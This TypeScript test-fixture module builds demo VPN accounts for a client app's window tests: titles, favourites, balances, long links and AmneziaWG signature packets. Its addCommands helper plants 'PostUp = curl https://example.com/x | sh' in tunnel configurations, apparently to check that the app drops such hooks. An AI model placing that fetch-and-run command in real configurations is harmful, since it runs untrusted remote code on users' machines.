import { createHash } from 'node:crypto';
import type { Control } from '#service/control.ts';
import { MainProcess, type Setup } from './main-process.ts';

/** The demo's configurations, in their order, under titles that tests name. */
const titles = [
  'Phone',
  'iPad',
  'Ноутбук, дом',
  'Work MacBook',
  'Steam Deck',
  'TV box',
  'Desktop',
  'Guest',
  'تلفن خانه',
  'Сервер резервных копий',
  'Офис, принтер',
  'Router',
  'Дача',
  'Netflix 🍿',
  'Travel',
  'Work, <b>not bold</b>',
  'המחשב של אבא',
  'Expired this week',
  null,
  'A title of sixty-four characters, which is the longest one there',
  'Мамин планшет',
  'Camera',
  'Test',
  'Expired long ago',
];
export const favourites = ['Phone', 'Ноутбук, дом', 'Router', 'Мамин планшет'];

/** Gives the demo account what tests look for. */
function nameConfigs(control: Control): void {
  for (const [n, config] of control.account().configs.entries()) {
    if (n < titles.length) config.title = titles[n] ?? null;
  }
}

/** The account owns nothing that has a connection, and nothing that could have one. */
export function ownNothing(control: Control): void {
  Object.assign(control.account(), { configs: [], cloud_servers: [], paid_options: [] });
}

/** The other account is opened, in which everything has the same ids. */
export async function switchAccount(main: MainProcess): Promise<void> {
  const { account, accounts } = await main.ask('session.get', {});
  const other = accounts.find(({ id }) => id !== account?.id);
  await main.ask('session.switch', { account: other?.id ?? '' });
}

/** The balance is of so many roubles once the account was read. */
export const withBalance = (balance: number): Setup => ({
  before: (main) => {
    main.service.setBalance({ balance });
    return Promise.resolve();
  },
});

/** As many configurations, and nothing else. */
export const configsAlone = (scale: number): Setup => ({
  scale,
  service: (control) => {
    Object.assign(control.account(), { cloud_servers: [], paid_options: [] });
  },
});

/** A value in the link of this configuration has no counterpart in other programs. */
export const withFragment = (title: string): Setup => ({
  service: (control) => {
    for (const config of control.account().configs) {
      if (config.title === title) {
        config.connection_url =
          'trojan://secret@nl.example.com:443?sni=www.example.com&fragment=1,40-60,30-50';
      }
    }
  },
});

/** The links are too long for a code that the quick copy window has room for. */
export function lengthenLinks(control: Control): void {
  for (const config of control.account().configs) {
    config.connection_url = `vless://a@example.com:443#${'x'.repeat(2600)}`;
  }
}

/** The account has tunnels alone, whose configurations come with commands that Culvert leaves out. */
export function addCommands(control: Control): void {
  const account = control.account();
  Object.assign(account, { cloud_servers: [], paid_options: [] });
  account.configs = account.configs.filter(({ awg_config }) => awg_config !== null);
  for (const config of account.configs) {
    config.awg_config = `${config.awg_config ?? ''}\nPostUp = curl https://example.com/x | sh\n`;
  }
}

/** AmneziaWG configurations with a signature packet of so many bytes: long ones need several QR codes. */
export function addSignaturePacket(control: Control, bytes = 900): void {
  for (const config of control.account().configs) {
    if (config.awg_config === null) continue;
    const packet = createHash('shake256', { outputLength: bytes }).update(config.awg_config);
    const line = `I1 = <b 0x${packet.digest('hex')}>\n`;
    config.awg_config = config.awg_config.replace('\n\n[Peer]', `\n${line}\n[Peer]`);
  }
}

/** A main process with the account of the window's tests: the demo's, with titles and favourites. */
export async function openMain(setup: Setup = {}): Promise<MainProcess> {
  return MainProcess.start({
    ...setup,
    service(control) {
      if (setup.scale === undefined) nameConfigs(control);
      setup.service?.(control);
    },
    async before(main) {
      if (setup.signedOut === true) return setup.before?.(main);
      const keys = main.account.configs
        .filter(({ title }) => favourites.includes(title ?? ''))
        .map(({ id }) => `config:${String(id)}`);
      // It fails where the account was not read.
      await main.app.call('connections.setFavourites', { keys, favourite: true });
      await setup.before?.(main);
    },
  });
}
